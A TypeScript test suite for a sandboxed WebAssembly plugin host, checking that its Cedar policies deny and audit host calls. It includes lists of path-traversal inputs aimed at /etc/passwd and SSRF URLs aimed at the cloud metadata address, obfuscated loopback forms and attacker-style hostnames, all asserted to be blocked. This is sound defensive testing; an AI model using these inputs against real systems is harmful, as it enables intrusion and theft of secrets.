// Cedar decides, and audits, every host-function call: real plugins in real
// isolates, real Cedar, real files in a temp dir, real HTTP on 127.0.0.1.
import assert from "node:assert/strict";
import { AuditLog } from "../src/audit/mod.ts";
import { type CallerContext, createHostFunctions, FsCapability, KvStore } from "../src/host/mod.ts";
import { compileGrants, type Grant, PolicyEngine, type PolicySource } from "../src/policy/mod.ts";
import { PluginHost } from "../src/runtime/mod.ts";
import { decoder, encoder, watFixture } from "./_test_utils.ts";

const ACTIONS = {
  fs_read: ["fs.read", { path: "data/x/a.txt" }],
  fs_write: ["fs.write", { path: "data/x/new.txt" }],
  fs_list: ["fs.list", { path: "data/x" }],
  fs_delete: ["fs.delete", { path: "data/x/a.txt" }],
  http_request: ["http.request", { url: "http://93.184.216.34/", method: "GET" }],
  kv_get: ["kv.get", { key: "k" }],
  kv_set: ["kv.set", { key: "k" }],
  kv_delete: ["kv.delete", { key: "k" }],
  env_get: ["env.get", { name: "REGION" }],
  log_write: ["log.write", { level: "info", message: "hi" }],
  clock_now: ["clock.now", {}],
  random_get: ["random.get", { bytes: 8 }],
} as const;

type Reply = { ok: true; bytes: Uint8Array; text: string } | { ok: false; code: string; message: string };

interface World {
  host: PluginHost<CallerContext>;
  engine: PolicyEngine;
  audit: AuditLog;
  root: string;
  logs: string[];
  call(fn: keyof typeof ACTIONS, request: unknown, body?: Uint8Array, caller?: string): Promise<Reply>;
  grants(grants: Grant[]): void;
  close(): Promise<void>;
}

const schema = await Deno.readTextFile(new URL("../policies/keycard.cedarschema", import.meta.url));
const base = await Deno.readTextFile(new URL("../policies/base.cedar", import.meta.url));

async function world(
  grants: Grant[],
  options: { extra?: PolicySource[]; resolve?: (host: string) => Promise<string[]> } = {},
): Promise<World> {
  const root = await Deno.makeTempDir({ prefix: "keycard-test-" });
  await Deno.mkdir(`${root}/data/x`, { recursive: true });
  await Deno.mkdir(`${root}/data/xy`, { recursive: true });
  await Deno.writeTextFile(`${root}/data/x/a.txt`, "in x");
  await Deno.writeTextFile(`${root}/data/xy/secret.txt`, "in xy");
  const sources = (g: Grant[]) => [
    { name: "base.cedar", text: base },
    { name: "grants/relay", text: compileGrants("relay", g) },
    ...(options.extra ?? []),
  ];
  const engine = await PolicyEngine.create({ schema, sources: sources(grants) });
  const audit = new AuditLog({ file: { path: `${root}/audit/audit.jsonl` } });
  const kv = await KvStore.open(`${root}/kv.sqlite`);
  const logs: string[] = [];
  const host = new PluginHost<CallerContext>({
    limits: { deadlineMs: 5000, queue: 1000 },
    concurrency: { queue: 1000 },
    hostFunctions: createHostFunctions({
      engine,
      audit,
      fs: await FsCapability.open(root),
      kv,
      env: (plugin): Record<string, string> =>
        plugin === "relay" ? { REGION: "eu-west-1" } : plugin === "wasi" ? { REGION: "eu-west-1", SECRET: "x" } : {},
      logSink: (entry) => logs.push(`${entry.level}:${entry.message}`),
      http: { timeoutMs: 2000, ...(options.resolve ? { resolve: options.resolve } : {}) },
    }),
  });
  await host.load(await watFixture("relay"), { name: "relay", version: "1.0.0" });
  return {
    host,
    engine,
    audit,
    root,
    logs,
    async call(fn, request, body, caller) {
      const json = encoder.encode(JSON.stringify(request));
      const input = body ? new Uint8Array([...json, 0, ...body]) : json;
      const out = await host.invoke("relay", fn, input, { hostContext: caller ? { caller } : {} });
      const payload = out.subarray(1);
      if (out[0] === 0) return { ok: true, bytes: payload, text: decoder.decode(payload) };
      return { ok: false, ...JSON.parse(decoder.decode(payload)) };
    },
    grants(g) {
      engine.load(sources(g));
    },
    async close() {
      await host.close();
      await audit.close();
      kv.close();
      await Deno.remove(root, { recursive: true });
    },
  };
}

Deno.test("every host function denies a plugin with an empty grant, and audits it", async () => {
  const w = await world([]);
  try {
    for (const [fn, [action, request]] of Object.entries(ACTIONS)) {
      const body = fn === "fs_write" || fn === "kv_set" ? encoder.encode("x") : undefined;
      const reply = await w.call(fn as keyof typeof ACTIONS, request, body);
      assert.equal(reply.ok, false, `${action} was allowed`);
      assert.ok(!reply.ok && reply.code === "denied", `${action}: ${JSON.stringify(reply)}`);
      assert.match(reply.message, new RegExp(`no policy permits ${action.replace(".", "\\.")} for plugin "relay"`));
      const [event] = w.audit.query({ action, limit: 1 });
      assert.ok(event, `no audit event for ${action}`);
      assert.equal(event.decision, "deny");
      assert.equal(event.reason, "denied by default");
      assert.equal(event.plugin, "relay");
      assert.equal(event.version, "1.0.0");
    }
    assert.equal(w.audit.stats().recorded, Object.keys(ACTIONS).length);
    // Nothing was acted on.
    assert.equal(await Deno.readTextFile(`${w.root}/data/x/a.txt`), "in x");
    await assert.rejects(() => Deno.stat(`${w.root}/data/x/new.txt`), Deno.errors.NotFound);
    assert.deepEqual(w.logs, []);
  } finally {
    await w.close();
  }
});

Deno.test("grants permit exactly what they name, by entity hierarchy", async () => {
  const w = await world([
    { "fs.read": { dir: "./data/x" } },
    { "fs.write": { dir: "data/x" } },
    { "fs.list": { dir: "/data" } },
    { kv: { namespace: "relay" } },
    { "env.get": { names: ["REGION"] } },
    { "log.write": {} },
    { "clock.now": {} },
    { "random.get": {} },
  ]);
  try {
    const read = await w.call("fs_read", { path: "data/x/a.txt" }, undefined, "client-7");
    assert.deepEqual(read, { ok: true, bytes: encoder.encode("in x"), text: "in x" });
    const event = w.audit.query({ action: "fs.read", limit: 1 })[0]!;
    assert.equal(event.decision, "allow");
    assert.deepEqual(event.policies, ["grant.relay.1"]);
    assert.equal(event.caller, "client-7");
    assert.equal(event.resource, 'File::"/data/x/a.txt"');
    // data/x never matches data/xy.
    const sibling = await w.call("fs_read", { path: "data/xy/secret.txt" });
    assert.ok(!sibling.ok && sibling.code === "denied");
    assert.ok((await w.call("fs_write", { path: "data/x/b.txt" }, encoder.encode("new"))).ok);
    assert.equal(await Deno.readTextFile(`${w.root}/data/x/b.txt`), "new");
    const listing = await w.call("fs_list", { path: "data" });
    assert.ok(listing.ok);
    assert.deepEqual(JSON.parse(listing.text).map((e: { name: string }) => e.name), ["x", "xy"]);
    assert.ok(!(await w.call("fs_delete", { path: "data/x/b.txt" })).ok);
    assert.ok((await w.call("kv_set", { key: "counter" }, encoder.encode("41"))).ok);
    assert.equal((await w.call("kv_get", { key: "counter" }) as { text: string }).text, "41");
    const otherNamespace = await w.call("kv_get", { key: "other/counter" });
    assert.ok(!otherNamespace.ok && otherNamespace.code === "denied");
    assert.equal((await w.call("env_get", { name: "REGION" }) as { text: string }).text, "eu-west-1");
    const home = await w.call("env_get", { name: "HOME" });
    assert.ok(!home.ok && home.code === "denied");
    assert.ok((await w.call("log_write", { level: "warn", message: "careful" })).ok);
    assert.deepEqual(w.logs, ["warn:careful"]);
    assert.ok(JSON.parse((await w.call("clock_now", {}) as { text: string }).text).unixMs > 0);
    assert.equal((await w.call("random_get", { bytes: 16 }) as { bytes: Uint8Array }).bytes.length, 16);
  } finally {
    await w.close();
  }
});

Deno.test("path attacks never leave the granted directory", async () => {
  const w = await world([{ "fs.read": { dir: "data/x" } }, { "fs.write": { dir: "data/x" } }]);
  try {
    await Deno.writeTextFile(`${w.root}/../keycard-outside.txt`, "outside").catch(() => {});
    await Deno.symlink("/etc", `${w.root}/data/x/etc-link`);
    await Deno.symlink("../xy/secret.txt", `${w.root}/data/x/sneaky`);
    const attacks = [
      "data/x/../xy/secret.txt",
      "data/x/../../../etc/passwd",
      "/../../etc/passwd",
      "/etc/passwd",
      "data/x/etc-link/passwd",
      "data/x/sneaky",
      "data/x/a.txt\u0000.png",
      "data/x/%2e%2e/xy/secret.txt",
      "data/xy/secret.txt",
      "data//xy/secret.txt",
      "data/x/./../xy/./secret.txt",
    ];
    for (const path of attacks) {
      const reply = await w.call("fs_read", { path });
      assert.ok(!reply.ok, `read ${JSON.stringify(path)} escaped: ${reply.ok && reply.text}`);
      assert.ok(["denied", "invalid", "not_found"].includes(reply.code), `${path}: ${reply.code}`);
      const write = await w.call("fs_write", { path }, encoder.encode("pwned"));
      assert.ok(!write.ok, `write ${JSON.stringify(path)} escaped`);
    }
    assert.equal(await Deno.readTextFile(`${w.root}/data/xy/secret.txt`), "in xy");
    // Every attempt left an audit trace, refused by Cedar or before it.
    const events = w.audit.query({ limit: 1000 });
    assert.equal(events.length, attacks.length * 2);
    // Allowed only inside data/x (a literal "%2e%2e" directory, which does not exist).
    for (const e of events.filter((e) => e.decision === "allow")) assert.match(e.resource, /^File::"\/data\/x\//);
    assert.ok(events.some((e) => e.reason?.startsWith("refused before policy evaluation: Path")));
  } finally {
    await w.close();
  }
});

Deno.test("SSRF: redirects and addresses are authorized hop by hop, with zero escapes", async () => {
  let internalHits = 0;
  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    internalHits++;
    return new Response("internal secrets");
  });
  const allowed = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const url = new URL(request.url);
    if (url.pathname === "/to-internal") return Response.redirect(`http://127.0.0.1:${internal.addr.port}/`, 302);
    if (url.pathname === "/to-metadata") return Response.redirect("http://169.254.169.254/latest/meta-data/", 302);
    if (url.pathname === "/to-decimal") return Response.redirect(`http://2130706433:${internal.addr.port}/`, 302);
    return new Response(`hello from ${request.method}`);
  });
  const port = allowed.addr.port;
  const w = await world(
    [
      { "http.request": { host: "127.0.0.1", port, methods: ["GET", "POST"] } },
      { "http.request": { host: "rebind.test" } },
    ],
    { resolve: (name) => Promise.resolve(name === "rebind.test" ? ["127.0.0.1"] : []) },
  );
  try {
    const ok = await w.call("http_request", { url: `http://127.0.0.1:${port}/`, method: "POST" }, encoder.encode("x"));
    assert.ok(ok.ok, JSON.stringify(ok));
    const nul = ok.bytes.indexOf(0);
    assert.equal(JSON.parse(decoder.decode(ok.bytes.subarray(0, nul))).status, 200);
    assert.equal(decoder.decode(ok.bytes.subarray(nul + 1)), "hello from POST");
    const attacks = [
      `http://127.0.0.1:${port}/to-internal`,
      `http://127.0.0.1:${port}/to-metadata`,
      `http://127.0.0.1:${port}/to-decimal`,
      `http://127.0.0.1:${internal.addr.port}/`,
      `http://2130706433:${internal.addr.port}/`,
      `http://0x7f000001:${internal.addr.port}/`,
      `http://[::1]:${internal.addr.port}/`,
      `http://[::ffff:127.0.0.1]:${internal.addr.port}/`,
      `http://rebind.test:${internal.addr.port}/`,
      "http://169.254.169.254/latest/meta-data/",
      "file:///etc/passwd",
    ];
    for (const url of attacks) {
      const reply = await w.call("http_request", { url, method: "GET" });
      assert.ok(!reply.ok, `${url} escaped`);
      assert.ok(["denied", "invalid"].includes(reply.code), `${url}: ${reply.code} ${reply.message}`);
    }
    assert.equal(internalHits, 0);
    const forbidden = w.audit.query({ action: "http.request", decision: "deny", limit: 100 });
    assert.ok(forbidden.some((e) => e.policies.includes("base.http.private-addresses")));
    assert.ok(forbidden.some((e) => e.policies.includes("base.http.schemes")));
    // The rebinding name is denied by the forbid even though a grant names it.
    assert.ok(forbidden.some((e) => e.resource.startsWith('Host::"rebind.test:')));
  } finally {
    await w.close();
    await allowed.shutdown();
    await internal.shutdown();
  }
});

Deno.test("reload under concurrent calls: every decision is whole, none fail", async () => {
  const w = await world([{ "clock.now": {} }]);
  try {
    let stop = false;
    let reloads = 0;
    const reloader = (async () => {
      while (!stop) {
        w.grants(reloads % 2 === 0 ? [{ "random.get": {} }] : [{ "clock.now": {} }]);
        reloads++;
        await new Promise((resolve) => setTimeout(resolve, 1));
      }
    })();
    const results = await Promise.all(Array.from({ length: 400 }, () => w.call("clock_now", {})));
    stop = true;
    await reloader;
    assert.ok(reloads > 5, `only ${reloads} reloads`);
    for (const reply of results) assert.ok(reply.ok || reply.code === "denied", JSON.stringify(reply));
    // Each decision names policies of exactly one version: allow by the clock grant, or deny by default.
    for (const event of w.audit.query({ action: "clock.now", limit: 1000 })) {
      if (event.decision === "allow") assert.deepEqual(event.policies, ["grant.relay.1"]);
      else assert.equal(event.reason, "denied by default");
    }
    // An invalid set is refused and the running one stays.
    const version = w.engine.version;
    assert.throws(() =>
      w.engine.load([{ name: "ops.cedar", text: "permit (principal, action, resource) when { nope };" }])
    );
    assert.equal(w.engine.version, version);
  } finally {
    await w.close();
  }
});

Deno.test("no audit event is lost under load: events written == decisions made", async () => {
  const w = await world([{ "clock.now": {} }, { "random.get": {} }]);
  try {
    const calls = 300;
    const replies = await Promise.all(
      Array.from({ length: calls }, (_, i) => w.call(i % 2 ? "clock_now" : "random_get", { bytes: 4 })),
    );
    assert.ok(replies.every((r) => r.ok));
    await w.audit.flush();
    const stats = w.audit.stats();
    assert.equal(stats.recorded, calls);
    assert.equal(stats.written, calls);
    const lines = (await Deno.readTextFile(`${w.root}/audit/audit.jsonl`)).trim().split("\n");
    assert.equal(lines.length, calls);
    const counted = w.audit.counters().reduce((sum, c) => sum + c.count, 0);
    assert.equal(counted, calls);
  } finally {
    await w.close();
  }
});

Deno.test("Extism's built-in http_request goes through the same authorized fetch", async () => {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => new Response("via extism"));
  const port = server.addr.port;
  const w = await world([], {
    extra: [{
      name: "grants/extism-http",
      text: compileGrants("extism-http", [{ "http.request": { host: "127.0.0.1", port, methods: ["GET"] } }]),
    }],
  });
  try {
    await w.host.load(await watFixture("extism_http"), { name: "extism-http" });
    const request = (url: string) => JSON.stringify({ url, method: "GET", headers: {} });
    const out = await w.host.invoke("extism-http", "fetch", request(`http://127.0.0.1:${port}/`));
    assert.equal(decoder.decode(out), "via extism");
    await assert.rejects(
      () => w.host.invoke("extism-http", "fetch", request("http://169.254.169.254/latest/meta-data/")),
      /http_request failed: denied: .*forbidden by base.http.private-addresses/,
    );
    const events = w.audit.query({ plugin: "extism-http", action: "http.request" });
    assert.deepEqual(events.map((e) => e.decision), ["deny", "allow"]);
  } finally {
    await w.close();
    await server.shutdown();
  }
});

Deno.test("Extism's host ABI works, and its log_* calls are decided and audited as log.write", async () => {
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => new Response("ok", { headers: { "x-from": "upstream" } }),
  );
  const port = server.addr.port;
  const w = await world([], {
    extra: [{
      name: "grants/abi",
      text: compileGrants("abi", [{ "log.write": {} }, { "http.request": { host: "127.0.0.1", port } }]),
    }],
  });
  try {
    await w.host.load(await watFixture("extism_abi"), { name: "abi", config: { region: "eu-west-1" } });
    const call = async (name: string, input: string) => decoder.decode(await w.host.invoke("abi", name, input));
    assert.equal(await call("config", "region"), "eu-west-1");
    // A key that is not configured: config_get returns 0 (Extism's JS SDK ignores the export's return code).
    assert.equal(await call("config", "missing"), "");
    assert.equal(await call("vars", "remember me"), "remember me");
    assert.equal(await call("var_read", "remember me"), "remember me"); // vars outlive a call
    assert.equal(await call("echo_unsafe", "unsafe echo"), "unsafe echo");
    await assert.rejects(() => w.host.invoke("abi", "error", "plugin says no"), /plugin says no/);
    await call("log", "hello from the ABI");
    assert.deepEqual(w.logs, ["warn:hello from the ABI", "info:hello from the ABI"]);
    const logs = w.audit.query({ plugin: "abi", action: "log.write" });
    assert.deepEqual(logs.map((e) => e.decision), ["allow", "allow"]);
    const headers = JSON.parse(
      await call("headers", JSON.stringify({ url: `http://127.0.0.1:${port}/`, method: "GET", headers: {} })),
    );
    assert.equal(headers["x-from"], "upstream");
  } finally {
    await w.close();
    await server.shutdown();
  }
});

Deno.test("Extism's log_* calls of a plugin without a log grant are denied and audited, and the call goes on", async () => {
  const w = await world([]);
  try {
    await w.host.load(await watFixture("extism_abi"), { name: "abi" });
    await w.host.invoke("abi", "log", "not allowed");
    assert.deepEqual(w.logs, []);
    const logs = w.audit.query({ plugin: "abi", action: "log.write" });
    assert.deepEqual(logs.map((e) => [e.decision, e.reason]), [
      ["deny", "denied by default"],
      ["deny", "denied by default"],
    ]);
  } finally {
    await w.close();
  }
});

Deno.test("WASI preview 1 calls are keycard host calls: granted ones work, the rest are errnos", async () => {
  const w = await world([], {
    extra: [{
      name: "grants/wasi",
      text: compileGrants("wasi", [
        { "log.write": {} },
        { "clock.now": {} },
        { "random.get": {} },
        { "env.get": { names: ["REGION"] } },
      ]),
    }],
  });
  try {
    await w.host.load(await watFixture("wasi_basic"), { name: "wasi", config: { REGION: "eu-west-1", SECRET: "x" } });
    const call = async (name: string) => await w.host.invoke("wasi", name);
    const hello = await call("hello");
    assert.deepEqual([hello[0], new DataView(hello.buffer, hello.byteOffset + 1).getUint32(0, true)], [0, 11]);
    assert.deepEqual(w.logs, ["info:hello wasi"]);
    const clock = await call("clock");
    assert.equal(clock[0], 0);
    const ms = Number(new DataView(clock.buffer, clock.byteOffset + 1).getBigUint64(0, true) / 1_000_000n);
    assert.ok(Math.abs(ms - Date.now()) < 60_000, `clock says ${ms}`);
    const random = await call("random");
    assert.equal(random[0], 0);
    assert.notDeepEqual(random.subarray(1), new Uint8Array(16));
    // Only the granted variable is in the environment.
    assert.equal(decoder.decode((await call("environ_text")).subarray(1)), "REGION=eu-west-1\0");
    assert.deepEqual([...await call("args")], [0, 0, 0, 0, 0, 0, 0, 0, 0]);
    assert.equal((await call("open"))[0], 8); // EBADF: fd 3 is no preopened directory here
    assert.equal((await call("exit0")).length, 0);
    await assert.rejects(() => w.host.invoke("wasi", "exit3"), /exited with code 3/);
    // Every decision was audited, the SECRET lookup denied.
    const env = w.audit.query({ plugin: "wasi", action: "env.get", limit: 100 });
    assert.ok(env.some((e) => e.decision === "deny" && e.resource === 'EnvVar::"wasi/SECRET"'));
  } finally {
    await w.close();
  }
});

Deno.test("WASI calls of a plugin with an empty grant are all denied errnos, audited, never traps", async () => {
  const w = await world([]);
  try {
    await w.host.load(await watFixture("wasi_basic"), { name: "wasi", config: { REGION: "eu-west-1" } });
    for (const name of ["hello", "clock", "random"]) {
      assert.equal((await w.host.invoke("wasi", name))[0], 2, name); // EACCES
    }
    assert.equal(decoder.decode((await w.host.invoke("wasi", "environ_text")).subarray(1)), "");
    assert.deepEqual(w.logs, []);
    const decisions = w.audit.query({ plugin: "wasi", limit: 100 });
    assert.deepEqual([...new Set(decisions.map((e) => e.decision))], ["deny"]);
    assert.deepEqual(
      [...new Set(decisions.map((e) => e.action))].sort(),
      ["clock.now", "env.get", "log.write", "random.get"],
    );
  } finally {
    await w.close();
  }
});

Deno.test("WASI preopens: files in granted directories are read and written through fs.*, nothing else", async () => {
  const w = await world([], {
    extra: [{
      name: "grants/files",
      text: compileGrants("files", [{ "fs.read": { dir: "data/x" } }, { "fs.write": { dir: "data/x" } }]),
    }],
  });
  try {
    await w.host.load(await watFixture("wasi_files"), { name: "files", preopens: ["/data/x"] });
    const call = async (name: string, input = "") => await w.host.invoke("files", name, input);
    assert.equal(decoder.decode((await call("preopen")).subarray(1)), "/data/x");
    const read = await call("read", "a.txt");
    assert.deepEqual([read[0], decoder.decode(read.subarray(1))], [0, "in x"]);
    assert.equal((await call("write", "made.txt"))[0], 0);
    assert.equal(await Deno.readTextFile(`${w.root}/data/x/made.txt`), "written by wasi");
    // Escapes and ungranted files are refused with errnos, and the secret is untouched.
    assert.equal((await call("read", "../xy/secret.txt"))[0], 2); // EACCES
    assert.equal((await call("read", "../../../etc/passwd"))[0], 2);
    assert.equal((await call("read", "missing.txt"))[0], 44); // ENOENT
    assert.equal((await call("write", "../xy/secret.txt"))[0], 2);
    assert.equal(await Deno.readTextFile(`${w.root}/data/xy/secret.txt`), "in xy");
    const denied = w.audit.query({ plugin: "files", decision: "deny", limit: 100 });
    assert.ok(denied.some((e) => e.resource === 'File::"/data/xy/secret.txt"'));
  } finally {
    await w.close();
  }
});

/** The reply of `relay`'s http_request, with status and body when it went through. */
function httpReply(reply: Reply): { status: number; body: string } | undefined {
  if (!reply.ok) return undefined;
  const nul = reply.bytes.indexOf(0);
  return {
    status: JSON.parse(decoder.decode(reply.bytes.subarray(0, nul))).status,
    body: decoder.decode(reply.bytes.subarray(nul + 1)),
  };
}

Deno.test("http.request decides the host name before any DNS lookup, and never reveals what a name resolves to", async () => {
  let internalHits = 0;
  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    internalHits++;
    return new Response("internal");
  });
  const port = internal.addr.port;
  const allowed = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => Response.redirect(`http://hop-secret.attacker.test:${port}/`, 302),
  );
  const lookups: string[] = [];
  const resolve = (name: string) => {
    lookups.push(name);
    return Promise.resolve(name === "private.test" ? ["10.9.8.7"] : ["127.0.0.1"]);
  };
  const w = await world([], { resolve });
  try {
    // No http grant at all: the name is refused by Cedar, and nobody asked DNS.
    const secret = await w.call("http_request", { url: `http://s3cr3t-data.attacker.test:${port}/` });
    assert.ok(!secret.ok && secret.code === "denied", JSON.stringify(secret));
    assert.match(secret.message, /no policy permits http\.request/);
    assert.deepEqual(lookups, []);
    // Granted names are resolved; the address is decided again, and the plugin never learns it.
    w.grants([
      { "http.request": { host: "private.test" } },
      { "http.request": { host: "loop.test" } },
      { "http.request": { host: "127.0.0.1", port: allowed.addr.port } },
    ]);
    for (const [name, address] of [["private.test", "10.9.8.7"], ["loop.test", "127.0.0.1"]]) {
      const reply = await w.call("http_request", { url: `http://${name}:${port}/` });
      assert.ok(!reply.ok && reply.code === "denied", JSON.stringify(reply));
      assert.match(reply.message, /base\.http\.private-addresses/);
      assert.ok(!reply.message.includes(address!), `the reply reveals ${address}: ${reply.message}`);
    }
    assert.deepEqual(lookups, ["private.test", "loop.test"]);
    // A redirect hop to a name no policy permits: decided by name, not resolved.
    const hop = await w.call("http_request", { url: `http://127.0.0.1:${allowed.addr.port}/` });
    assert.ok(!hop.ok && hop.code === "denied", JSON.stringify(hop));
    assert.deepEqual(lookups, ["private.test", "loop.test"]);
    assert.equal(internalHits, 0);
    // Each name was decided twice (name, then address); the unpermitted ones once.
    const decided = w.audit.query({ action: "http.request", limit: 100 }).map((e) => e.resource).reverse();
    assert.deepEqual(decided, [
      `Host::"s3cr3t-data.attacker.test:${port}"`,
      `Host::"private.test:${port}"`,
      `Host::"private.test:${port}"`,
      `Host::"loop.test:${port}"`,
      `Host::"loop.test:${port}"`,
      `Host::"127.0.0.1:${allowed.addr.port}"`,
      `Host::"hop-secret.attacker.test:${port}"`,
    ]);
  } finally {
    await w.close();
    await allowed.shutdown();
    await internal.shutdown();
  }
});

Deno.test("the base forbids catch every address form that embeds a private IPv4, under a broad permit", async () => {
  let internalHits = 0;
  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    internalHits++;
    return new Response("internal");
  });
  const port = internal.addr.port;
  const w = await world([], {
    extra: [{ name: "ops.cedar", text: 'permit (principal, action == Action::"http.request", resource);' }],
  });
  try {
    const hosts = [
      "[::127.0.0.1]", // IPv4-compatible
      "[::ffff:0:127.0.0.1]", // IPv4-translated (SIIT)
      "[64:ff9b::127.0.0.1]", // NAT64 well-known prefix
      "[64:ff9b:1::7f00:1]", // NAT64 local-use prefix
      "[2002:7f00:1::]", // 6to4
      "[2001:0:4136:e378:8000:63bf:80ff:fffe]", // Teredo, client 127.0.0.1 (obfuscated)
      "[2001:0:4136:e378:8000:63bf:f5ff:fffe]", // Teredo, client 10.0.0.1
      "255.255.255.255", // broadcast
      "[::ffff:127.0.0.1]",
      "2130706433",
      "0x7f.1",
      "0177.0.0.1",
      "127.1",
      "[2001:db8::1]", // documentation
      "198.51.100.7", // documentation
      "240.0.0.1", // reserved
      "[ff02::1]", // multicast
      "[fec0::1]", // site-local
    ];
    for (const host of hosts) {
      const reply = await w.call("http_request", { url: `http://${host}:${port}/` });
      assert.ok(!reply.ok && reply.code === "denied", `${host}: ${JSON.stringify(reply)}`);
      assert.match(reply.message, /base\.http\.private-addresses/, host);
    }
    assert.equal(internalHits, 0);
  } finally {
    await w.close();
    await internal.shutdown();
  }
});

Deno.test("naming an address lifts the private-address block only for the plugin whose grant names it", async () => {
  let hits = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    hits++;
    return new Response("named");
  });
  const port = server.addr.port;
  const w = await world([{ "http.request": { host: "127.0.0.1", port } }], {
    extra: [{
      name: "ops.cedar",
      text: 'permit (principal == Plugin::"broad", action == Action::"http.request", resource);',
    }],
  });
  try {
    await w.host.load(await watFixture("relay"), { name: "broad", version: "1.0.0" });
    const url = `http://127.0.0.1:${port}/`;
    const named = httpReply(await w.call("http_request", { url }));
    assert.deepEqual(named, { status: 200, body: "named" });
    assert.equal(hits, 1);
    const out = await w.host.invoke("broad", "http_request", encoder.encode(JSON.stringify({ url })));
    assert.equal(out[0], 1, `broad reached the named address: ${decoder.decode(out.subarray(1))}`);
    const error = JSON.parse(decoder.decode(out.subarray(1)));
    assert.equal(error.code, "denied");
    assert.match(error.message, /base\.http\.private-addresses/);
    assert.equal(hits, 1);
  } finally {
    await w.close();
    await server.shutdown();
  }
});
